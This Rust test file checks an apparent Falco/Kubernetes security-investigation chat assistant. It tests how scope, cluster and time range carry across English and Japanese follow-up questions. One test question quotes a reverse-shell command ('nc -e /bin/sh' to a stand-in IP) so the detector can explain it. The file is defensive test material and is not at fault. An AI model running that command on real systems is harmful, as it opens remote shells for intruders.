//! Multi-turn conversations through the planner beyond the seed: references to what earlier
//! turns established, switching to another cluster, widening, time ranges carried over and
//! dropped, in English and Japanese.

use saker::conversation::{Answer, ChatRequest, EventSink, Orchestrator};
use serde_json::Value;

use super::support::{demo_now, demo_orchestrator};

async fn ask(orchestrator: &Orchestrator, session: &mut Option<String>, question: &str) -> Answer {
    let request = ChatRequest {
        session_id: session.clone(),
        message: question.to_string(),
        now: Some(demo_now()),
        ..ChatRequest::default()
    };
    let answer =
        orchestrator.chat(request, EventSink::discard()).await.unwrap_or_else(|error| panic!("{question}: {error}"));
    assert!(answer.grounded, "{question}: ungrounded {:?}\n{}", answer.unsupported, answer.answer);
    assert!(answer.steps.iter().all(|step| step.output.get("error").is_none()), "{question}: a tool failed");
    session.get_or_insert(answer.session_id.clone());
    answer
}

fn tools(answer: &Answer) -> Vec<&str> {
    answer.steps.iter().map(|step| step.tool.as_str()).collect()
}

fn scope(answer: &Answer, index: usize) -> &str {
    answer.steps[index].arguments.get("scope").and_then(Value::as_str).unwrap_or("")
}

#[tokio::test]
async fn an_english_investigation_moves_between_clusters_and_time_ranges() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let summary =
        ask(&orchestrator, &mut session, "Summarize what happened in prod-web-eks in the last 24 hours.").await;
    assert_eq!(tools(&summary), vec!["event_stats"]);
    assert_eq!(scope(&summary, 0), "k8s.cluster.name=prod-web-eks");
    assert_eq!(summary.steps[0].arguments["last"], "24h");

    let root_cause = ask(&orchestrator, &mut session, "What was the root cause in the web namespace?").await;
    assert_eq!(tools(&root_cause), vec!["root_cause"]);
    assert_eq!(scope(&root_cause, 0), "k8s.cluster.name=prod-web-eks and k8s.ns.name=web");
    assert_eq!(root_cause.steps[0].arguments["last"], "24h", "the time range carries over");

    let techniques = ask(&orchestrator, &mut session, "Which techniques?").await;
    assert_eq!(tools(&techniques), vec!["mitre_mapping"]);
    assert_eq!(scope(&techniques, 0), "k8s.cluster.name=prod-web-eks and k8s.ns.name=web");

    let other = ask(&orchestrator, &mut session, "What about staging-ocp?").await;
    assert_eq!(tools(&other), vec!["mitre_mapping"], "a follow-up repeats the last question");
    assert_eq!(scope(&other, 0), "k8s.cluster.name=staging-ocp", "the old namespace is dropped");

    let all_time = ask(&orchestrator, &mut session, "And across all time?").await;
    assert_eq!(tools(&all_time), vec!["mitre_mapping"]);
    assert!(all_time.steps[0].arguments.get("last").is_none());

    let explained = ask(&orchestrator, &mut session, "Explain it.").await;
    assert_eq!(tools(&explained), vec!["explain_event"]);
    assert_eq!(explained.steps[0].arguments["rule"], "Clear Log Activities");
    assert_eq!(scope(&explained, 0), "k8s.cluster.name=staging-ocp");
}

#[tokio::test]
async fn a_japanese_investigation_refers_back_and_widens() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let summary = ask(&orchestrator, &mut session, "prod-recon-eks クラスタの過去7日間のイベントを要約して").await;
    assert_eq!(tools(&summary), vec!["event_stats"]);
    assert_eq!(scope(&summary, 0), "k8s.cluster.name=prod-recon-eks");
    assert_eq!(summary.steps[0].arguments["last"], "7d");

    let path = ask(&orchestrator, &mut session, "storefront 名前空間の攻撃経路は?").await;
    assert_eq!(tools(&path), vec!["attack_path"]);
    assert_eq!(scope(&path, 0), "k8s.cluster.name=prod-recon-eks and k8s.ns.name=storefront");

    let impacted = ask(&orchestrator, &mut session, "その名前空間で影響を受けたワークロードは?").await;
    assert_eq!(tools(&impacted), vec!["impacted_workloads", "impacted_workloads"]);
    assert_eq!(scope(&impacted, 0), "k8s.cluster.name=prod-recon-eks and k8s.ns.name=storefront");
    assert_eq!(impacted.steps[0].output["totals"]["workloads"].as_u64(), Some(2), "catalog-api and checkout-api");

    let widened = ask(&orchestrator, &mut session, "クラスタ全体では?").await;
    assert_eq!(tools(&widened), vec!["impacted_workloads"]);
    assert_eq!(scope(&widened, 0), "k8s.cluster.name=prod-recon-eks");
    assert_eq!(widened.steps[0].output["totals"]["workloads"].as_u64(), Some(3));
}

#[tokio::test]
async fn a_category_compared_carries_over_to_the_next_questions() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let compared = ask(&orchestrator, &mut session, "Compare reconnaissance this week with last week.").await;
    assert_eq!(
        tools(&compared),
        vec!["compare_periods", "event_stats"],
        "the category, then every alert of the scope in the same periods"
    );
    let category_rules: Vec<String> = compared.steps[0].output["category_rules"]
        .as_array()
        .expect("the category's rules")
        .iter()
        .filter_map(Value::as_str)
        .map(String::from)
        .collect();
    assert!(!category_rules.is_empty());

    let impacted = ask(&orchestrator, &mut session, "Which workloads were impacted?").await;
    assert_eq!(tools(&impacted), vec!["impacted_workloads"]);
    let narrowed = scope(&impacted, 0);
    assert!(narrowed.starts_with("rule in ("), "{narrowed}");
    for rule in &category_rules {
        assert!(narrowed.contains(rule.as_str()), "{rule} missing from {narrowed}");
    }
    assert_eq!(impacted.steps[0].arguments["last"], "7d", "the comparison's week carries over too");

    // Naming another object leaves the category behind.
    let elsewhere = ask(&orchestrator, &mut session, "What was the root cause in the web namespace?").await;
    assert!(!scope(&elsewhere, 0).contains("rule in ("), "{}", scope(&elsewhere, 0));
}

#[tokio::test]
async fn an_attack_path_after_a_rule_follows_the_containers_it_fired_in() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    ask(&orchestrator, &mut session, "what does 'Reverse Shell from Web Server' mean in prod-web-eks?").await;
    let path = ask(&orchestrator, &mut session, "walk me through what they did after that, in order").await;
    assert_eq!(tools(&path), vec!["attack_path"]);
    let followed = scope(&path, 0);
    assert!(followed.contains("container.id"), "{followed}");
    assert!(!followed.contains("rule="), "the rule's containers, not only the rule: {followed}");
    // The download and the metadata access after the shell are on the path.
    assert!(path.answer.contains("linpeas.sh"), "{}", path.answer);

    // A rule named in the question itself keeps the question to that rule.
    let named = ask(&orchestrator, &mut session, "root cause of the Reverse Shell from Web Server alerts").await;
    assert!(scope(&named, 0).contains("rule=\"Reverse Shell from Web Server\""), "{}", scope(&named, 0));
}

#[tokio::test]
async fn validate_that_checks_the_exception_written_in_an_earlier_turn() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let written =
        ask(&orchestrator, &mut session, "Write a Falco exception for the Clear Log Activities alerts in staging-ocp.")
            .await;
    assert_eq!(tools(&written), vec!["generate_exception"]);
    let yaml = written.steps[0].output["yaml"].as_str().expect("a generated exception").to_string();

    let checked = ask(&orchestrator, &mut session, "is that valid falco yaml? check it before I push it").await;
    assert_eq!(tools(&checked), vec!["validate_exception"]);
    assert_eq!(checked.steps[0].arguments["yaml"].as_str(), Some(yaml.as_str()), "the exception just written");
}

#[tokio::test]
async fn after_a_search_for_a_pasted_value_them_means_the_pods_it_found() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let search = ask(&orchestrator, &mut session, "which pods talked to 198.51.100.23?").await;
    assert_eq!(tools(&search), vec!["search_events"]);
    let places = search.steps[0].output["found_in"].as_array().expect("places");
    let mut found: Vec<&str> = places.iter().filter_map(|place| place["pod"].as_str()).collect();
    found.sort_unstable();
    assert!(found.len() >= 2, "{found:?}");
    for pod in &found {
        assert!(search.answer.contains(pod), "the answer names {pod}");
    }

    let cut = ask(&orchestrator, &mut session, "cut egress for all of them").await;
    assert!(tools(&cut).contains(&"propose_response_action"), "{:?}", tools(&cut));
    let proposal = cut.steps.iter().find(|step| step.tool == "propose_response_action").expect("proposal");
    let proposed = proposal.arguments["scope"].as_str().expect("scope");
    for pod in &found {
        assert!(proposed.contains(pod), "{pod} is proposed: {proposed}");
    }
    assert!(!proposed.contains("gitlab-runner"), "only the pods the search found: {proposed}");
}

#[tokio::test]
async fn a_pasted_command_line_is_searched_whole_and_explained() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let search = ask(&orchestrator, &mut session, "where did `apt-get install -y vim-tiny` run").await;
    assert_eq!(tools(&search), vec!["search_events"]);
    assert_eq!(search.steps[0].arguments["query"], "\"apt-get install -y vim-tiny\"");
    assert!(search.answer.contains("postgres-0"), "{}", search.answer);

    let explain = ask(&orchestrator, &mut session, "why did falco flag nc -e /bin/sh 203.0.113.9 9001 there?").await;
    assert_eq!(tools(&explain), vec!["explain_event"], "{}", explain.answer);
    assert_eq!(explain.steps[0].output["rule"], "Netcat Remote Code Execution in Container");
}

#[tokio::test]
async fn a_bare_and_with_another_place_repeats_the_last_question_there() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let first = ask(&orchestrator, &mut session, "how many workloads got hit in prod-web-eks").await;
    assert_eq!(tools(&first), vec!["impacted_workloads"]);

    let other = ask(&orchestrator, &mut session, "and staging-ocp?").await;
    assert_eq!(tools(&other), vec!["impacted_workloads"], "{}", other.answer);
    assert_eq!(scope(&other, 0), "k8s.cluster.name=staging-ocp");
}

#[tokio::test]
async fn the_same_action_again_for_another_place_is_proposed_there() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let first = ask(&orchestrator, &mut session, "kill the miner process in the bedrock-java pods").await;
    assert_eq!(tools(&first), vec!["propose_response_action"]);
    assert_eq!(scope(&first, 0), "workload=risk-10-aws-bedrock-java");

    let again = ask(&orchestrator, &mut session, "same for risk-7").await;
    assert_eq!(tools(&again), vec!["propose_response_action"], "{}", again.answer);
    assert_eq!(again.steps[0].arguments["kinds"], serde_json::json!(["kill_process"]));
    assert!(scope(&again, 0).contains("risk-7-aws-iam-privileged-node"), "{}", scope(&again, 0));
    assert!(again.answer.contains("1 action proposed"), "{}", again.answer);
}

#[tokio::test]
async fn that_cluster_after_a_search_is_the_one_its_hits_were_in() {
    let sessions = tempfile::tempdir().expect("tempdir");
    let orchestrator = demo_orchestrator(sessions.path()).await;
    let mut session = None;

    let search = ask(&orchestrator, &mut session, "ログ消し系のアラートってどこで出てる？/var/log 配下のやつ").await;
    assert_eq!(tools(&search), vec!["search_events"]);
    assert_eq!(scope(&search, 0), "", "the search itself is not narrowed");

    let summary = ask(&orchestrator, &mut session, "そのクラスタ全体のサマリーもお願い").await;
    assert_eq!(tools(&summary), vec!["event_stats"]);
    assert_eq!(scope(&summary, 0), "k8s.cluster.name=staging-ocp", "{}", summary.answer);
}
